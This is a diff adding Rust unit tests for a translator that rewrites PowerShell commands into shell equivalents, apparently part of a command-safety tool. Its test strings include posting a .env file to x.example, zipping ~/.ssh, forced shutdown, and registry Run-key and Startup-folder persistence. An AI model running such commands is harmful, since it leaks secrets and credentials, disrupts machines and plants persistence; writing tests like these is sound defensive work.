@@ -2409,6 +2409,25 @@ fn powershell_environment_piped_reads_and_run_keys() {
         "find ~ -mindepth 1 | xargs cat"
     );
     assert_eq!(rewrite("Get-Content a.txt"), "cat a.txt");
+    // The pipeline's input is the body of a web request; an explicit body or file wins.
+    assert_eq!(
+        rewrite("Get-Content .env | Invoke-RestMethod -Uri https://x.example -Method Post"),
+        "cat .env | curl https://x.example -X Post --data-binary @-"
+    );
+    assert_eq!(
+        rewrite("Invoke-RestMethod -Uri https://x.example -Method Post -Body '{}'"),
+        "curl https://x.example -X Post -d '{}'"
+    );
+    assert_eq!(rewrite("Stop-Computer -Force"), "shutdown -h now");
+    assert_eq!(rewrite("Restart-Computer"), "reboot");
+    assert_eq!(
+        rewrite("Compress-Archive -Path ~/.ssh -DestinationPath k.zip"),
+        "zip -r k.zip ~/.ssh"
+    );
+    assert_eq!(
+        rewrite("Compress-Archive ./dist release.zip"),
+        "zip -r release.zip ./dist"
+    );
     let startup = "tee '~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/'";
     for line in [
         "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value x",
